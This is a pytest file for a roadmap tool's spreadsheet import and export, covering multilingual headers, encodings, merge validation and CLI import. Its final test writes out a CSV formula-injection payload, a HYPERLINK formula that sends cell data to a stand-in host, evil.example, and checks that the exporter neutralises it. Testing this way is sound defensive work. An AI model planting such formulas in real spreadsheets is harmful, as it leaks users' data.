"""Items from and to spreadsheets: delimiters, encodings, languages of headers, merging."""

from __future__ import annotations

from datetime import date
from pathlib import Path

import pytest
from click.testing import CliRunner

from roadmap.cli import cli
from roadmap.io.csv_items import (
    merge_items,
    parse_mapping,
    read_items_csv,
    write_items_csv,
)
from roadmap.io.planfile import PlanFileError, dump_json
from roadmap.model.inputs import PlanDoc
from roadmap.store.db import Store
from roadmap.store.plan_read import read_plan
from roadmap.store.plan_write import write_plan
from roadmap.store.repo import find_plan
from sample_plans import rich_plan

CRITERIA = ["impact", "cost"]


def rows_of(data: bytes, **kwargs) -> list[dict]:
    sheet = read_items_csv(data, name="items.csv", criteria=CRITERIA, **kwargs)
    return [
        {**row.values, **{f"score:{k}": v for k, v in (row.scores or {}).items()}}
        for row in sheet.rows
    ]


def test_comma_separated_english() -> None:
    data = (
        b'Key,Title,Effort,Depends on,Tags,score:impact\nA,First,2.5,,x,4\nB,Second,1,A,"p, q",\n'
    )
    assert rows_of(data) == [
        {"key": "A", "title": "First", "effort": 2.5, "depends_on": None, "tags": ("x",),
         "score:impact": 4.0},
        {"key": "B", "title": "Second", "effort": 1.0, "depends_on": ("A",), "tags": ("p", "q"),
         "score:impact": None},
    ]  # fmt: skip


def test_finnish_semicolons_decimal_commas_bom_and_crlf() -> None:
    text = (
        "Tunnus;Otsikko;Työmäärä;Tila;Riippuvuudet;Määräaika;Pakollinen;Vaikutus\r\n"
        "A;Ensimmäinen;2,5;käynnissä;;31.12.2027;kyllä;3\r\n"
        'B;Toinen;1 000,25;valmis;"A; B2";2028-01-15;ei;\r\n'
    )
    assert rows_of("\ufeff".encode() + text.encode()) == [
        {"key": "A", "title": "Ensimmäinen", "effort": 2.5, "status": "in_progress",
         "depends_on": None, "deadline": date(2027, 12, 31), "mandatory": "true", "impact": 3.0},
        {"key": "B", "title": "Toinen", "effort": 1000.25, "status": "done",
         "depends_on": ("A", "B2"), "deadline": date(2028, 1, 15), "mandatory": "false",
         "impact": None},
    ]  # fmt: skip


def test_swedish_headers_in_windows_1252() -> None:
    text = (
        "Nyckel;Titel;Arbetsmängd;Status;Beroenden;Taggar;Ägare\n"
        "A;Översikt;0,5;pågående;;data;LAHTI\n"
    )
    sheet = read_items_csv(text.encode("cp1252"), name="items.csv")
    assert sheet.warnings == ["items.csv: not UTF-8; read as Windows-1252 text"]
    assert rows_of(text.encode("cp1252")) == [
        {"key": "A", "title": "Översikt", "effort": 0.5, "status": "in_progress",
         "depends_on": None, "tags": ("data",), "organisation": "LAHTI"},
    ]  # fmt: skip


def test_utf8_without_bom_and_tab_delimiter() -> None:
    assert rows_of("key\ttitle\nÄ1\tÅland\n".encode()) == [{"key": "Ä1", "title": "Åland"}]


def test_scores_by_prefix_or_criterion_key() -> None:
    data = b"key,title,Pisteet:Impact,COST\nA,a,3,2\n"
    assert rows_of(data) == [{"key": "A", "title": "a", "score:impact": 3.0, "score:cost": 2.0}]


def test_map_names_columns_and_skips_others() -> None:
    mapping = parse_mapping(["Vastuutiimi=team", "Muistiinpanot=-", "Hyöty=score:impact"])
    data = "ID,Nimi,Vastuutiimi,Muistiinpanot,Hyöty\nA,a,DATA,whatever,5\n".encode()
    sheet = read_items_csv(data, name="items.csv", mapping=mapping)
    assert sheet.warnings == []
    assert sheet.rows[0].values == {"key": "A", "title": "a", "team": "DATA"}
    assert sheet.rows[0].scores == {"impact": 5.0}


def test_bad_map_is_refused() -> None:
    with pytest.raises(PlanFileError, match="--map 'Col=colour'"):
        parse_mapping(["Col=colour"])


def test_unknown_columns_are_reported() -> None:
    sheet = read_items_csv(b"key,title,Vastuuhenkilo,,Budget\nA,a,Maija,,100\n", name="items.csv")
    assert len(sheet.warnings) == 2
    assert "column 3 'Vastuuhenkilo' is not an item field" in sheet.warnings[0]
    assert '--map "Vastuuhenkilo=field"' in sheet.warnings[0]
    assert "column 5 'Budget'" in sheet.warnings[1]


def test_header_problems() -> None:
    with pytest.raises(PlanFileError) as caught:
        read_items_csv(b"title,Otsikko\na,b\n", name="items.csv")
    assert caught.value.messages == [
        "items.csv:1: columns 'title' and 'Otsikko' both give title",
        "items.csv:1: no key column (a header such as key, tunnus or nyckel)",
    ]


def test_cell_problems_name_line_and_column() -> None:
    data = b'key,title,description,effort\nA,a,"two\nlines",1\nB,b,,inf\nC,c,,1,extra\n'
    sheet = read_items_csv(data, name="items.csv")
    with pytest.raises(PlanFileError) as caught:
        merge_items(rich_plan().model_copy(update={"items": [], "milestones": []}), sheet)
    assert caught.value.messages == [
        "items.csv:4 (B): column 'effort': 'inf' is not a number",
        "items.csv:5 (C): the row has more cells than the header has columns",
    ]


def test_merge_validates_rows_and_the_plan() -> None:
    doc = rich_plan()
    data = (
        "Tunnus;Otsikko;Työmäärä;Riippuvuudet;score:impact\n"
        "NEW;Uusi;paljon;Z-1;3\n"
        "NEW2;Toinen;1;NOPE;x\n"
        "NEW;Kolmas;1;;\n"
    ).encode()
    sheet = read_items_csv(data, name="items.csv", criteria=CRITERIA)
    with pytest.raises(PlanFileError) as caught:
        merge_items(doc, sheet)
    assert caught.value.messages == [
        "items.csv:2 (NEW): column 'Työmäärä': 'paljon' is not a number",
        "items.csv:3 (NEW2): column 'score:impact': 'x' is not a number",
        "items.csv:3 (NEW2): column 'Riippuvuudet': unknown item 'NOPE'",
        "items.csv:4 (NEW): key 'NEW' is also on line 2",
    ]
    sheet = read_items_csv(
        b"key;title;depends_on\nNEW2;Toinen;NOPE\nZ-1;;B-4\n", name="items.csv", criteria=CRITERIA
    )
    with pytest.raises(PlanFileError) as caught:
        merge_items(doc, sheet)
    assert caught.value.messages == [
        "items.csv:2 (NEW2): column 'depends_on': unknown item 'NOPE'",
        "items.csv:3 (Z-1): column 'title': required, but missing",
    ]


def test_merge_reports_references_and_cycles_by_row() -> None:
    doc = rich_plan()
    sheet = read_items_csv(
        b"key;depends_on\nA-2;NOPE\nZ-1;B-4\n", name="items.csv", criteria=CRITERIA
    )
    with pytest.raises(PlanFileError) as caught:
        merge_items(doc, sheet)
    assert caught.value.messages == ["items.csv:2 (A-2): column 'depends_on': unknown item 'NOPE'"]
    sheet = read_items_csv(b"key,Score:My_Crit\nA-2,3\n", name="items.csv", criteria=CRITERIA)
    with pytest.raises(PlanFileError) as caught:
        merge_items(doc, sheet)
    assert caught.value.messages == [
        "items.csv:2 (A-2): column 'Score:My_Crit': unknown criterion 'My_Crit'"
    ]
    sheet = read_items_csv(b"key;depends_on\nZ-1;B-4\n", name="items.csv", criteria=CRITERIA)
    with pytest.raises(PlanFileError) as caught:
        merge_items(doc, sheet)
    [message] = caught.value.messages
    assert "dependency cycle" in message
    assert all(key in message for key in ("Z-1", "A-2", "M-3", "B-4"))


def test_merge_updates_only_the_columns_given() -> None:
    doc = rich_plan()
    sheet = read_items_csv(
        b"key;title;moscow;score:cost\nZ-1;Uusi nimi;;7,5\nNEW;Uusi;S;\n",
        name="items.csv",
        criteria=CRITERIA,
    )
    merged, changed = merge_items(doc, sheet)
    old, new = changed
    before = doc.items[0]
    assert old == before.model_copy(
        update={"title": "Uusi nimi", "moscow": None, "scores": {"impact": 4.0, "cost": 7.5}}
    )
    assert (new.key, new.moscow, new.scores) == ("NEW", "should", {})
    assert merged.items[1:4] == doc.items[1:4]
    assert [item.key for item in merged.items] == ["Z-1", "A-2", "M-3", "B-4", "NEW"]


def test_written_csv_reads_back_the_same() -> None:
    doc = rich_plan()
    data = write_items_csv(doc)
    assert data.startswith(b"\xef\xbb\xbfkey,title,description,theme,")
    assert b"\r\n" in data
    sheet = read_items_csv(data, name="items.csv", criteria=CRITERIA)
    assert sheet.warnings == []
    empty = doc.model_copy(update={"items": []})
    merged, _ = merge_items(empty, sheet)
    without_i18n = [item.model_copy(update={"i18n": {}}) for item in doc.items]
    assert merged.items == without_i18n


def test_lists_that_cannot_be_a_cell_are_refused() -> None:
    doc = rich_plan()
    doc.items[0].tags += ("a;b",)
    with pytest.raises(ValueError, match="item Z-1: tags value 'a;b'"):
        write_items_csv(doc)


@pytest.fixture
def db(tmp_path: Path) -> Path:
    path = tmp_path / "roadmap.db"
    store = Store.open(path)
    with store.write() as session:
        write_plan(session=session, doc=rich_plan())
    store.close()
    return path


def plan_of(db: Path, slug: str = "lahti") -> PlanDoc:
    store = Store.open(db)
    with store.read() as session:
        doc = read_plan(session=session, plan_id=find_plan(session=session, slug=slug).id)
    store.close()
    return doc


def run(db: Path, *args: str):
    return CliRunner().invoke(cli, ["--db", str(db), *args])


def test_cli_imports_rows_into_a_plan(db: Path, tmp_path: Path) -> None:
    path = tmp_path / "items.csv"
    path.write_text("Tunnus;Otsikko;Tila;Muuta\r\nZ-1;Päivitetty;valmis;x\r\nC-9;Uusi;;y\r\n")
    result = run(db, "import", str(path), "--plan", "lahti")
    assert result.exit_code == 0, result.output
    assert "Imported 1 new and 1 updated items into plan 'lahti'" in result.stdout
    assert "Warning: " in result.stderr and "'Muuta' is not an item field" in result.stderr
    doc = plan_of(db)
    first = doc.items[0]
    assert (first.title, first.status, first.i18n) == (
        "Päivitetty",
        "done",
        rich_plan().items[0].i18n,
    )
    assert first.scores == {"impact": 4.0, "cost": 2.0}
    assert doc.items[-1].key == "C-9"


def test_cli_refuses_a_bad_sheet_and_keeps_the_plan(db: Path, tmp_path: Path) -> None:
    before = dump_json(plan_of(db))
    path = tmp_path / "items.csv"
    path.write_text("key,title,depends_on\nOK,fine,\nZ-1,changed,NOPE\n")
    result = run(db, "import", str(path), "--plan", "lahti")
    assert result.exit_code == 1
    assert f"{path}:3 (Z-1): column 'depends_on': unknown item 'NOPE'" in result.stderr
    assert "nothing was imported" in result.stderr
    assert dump_json(plan_of(db)) == before


def test_cli_exported_csv_imports_without_changes(db: Path, tmp_path: Path) -> None:
    before = dump_json(plan_of(db))
    out = tmp_path / "items.csv"
    assert run(db, "export-data", "--format", "csv", "-o", str(out)).exit_code == 0
    result = run(db, "import", str(out), "--plan", "lahti")
    assert result.exit_code == 0, result.output
    assert "0 new and 0 updated" in result.stdout  # nothing differs, nothing is written
    assert result.stderr == ""
    assert dump_json(plan_of(db)) == before


def test_cli_csv_into_a_new_plan(db: Path, tmp_path: Path) -> None:
    path = tmp_path / "items.csv"
    path.write_text("key,title,depends_on\nA,First,\nB,Second,A\n")
    result = run(db, "import", str(path), "--new-plan", "Ideas", "--plan", "ideas")
    assert result.exit_code == 0, result.output
    doc = plan_of(db, "ideas")
    assert (doc.plan.name, [i.key for i in doc.items]) == ("Ideas", ["A", "B"])
    assert doc.items[1].depends_on == ("A",)


def test_cli_csv_needs_an_existing_plan(db: Path, tmp_path: Path) -> None:
    path = tmp_path / "items.csv"
    path.write_text("key,title\nA,First\n")
    result = run(db, "import", str(path), "--plan", "nope")
    assert result.exit_code == 1
    assert "no plan 'nope'" in result.stderr and "--new-plan" in result.stderr


def test_written_csv_never_holds_a_formula_and_reads_back_exactly() -> None:
    doc = rich_plan()
    texts = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "@SUM(A1)", "'=kept"]
    items = [
        item.model_copy(update={"title": text, "description": "\tdesc " + text})
        for item, text in zip(doc.items, texts, strict=True)
    ]
    items[0] = items[0].model_copy(update={"tags": ("-x", "b")})
    doc = doc.model_copy(update={"items": items})
    data = write_items_csv(doc)
    import csv
    import io

    cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in cells
    assert "''=kept" in cells
    sheet = read_items_csv(data, name="items.csv", criteria=CRITERIA)
    merged, _ = merge_items(doc.model_copy(update={"items": []}), sheet)
    assert merged.items == [item.model_copy(update={"i18n": {}}) for item in doc.items]
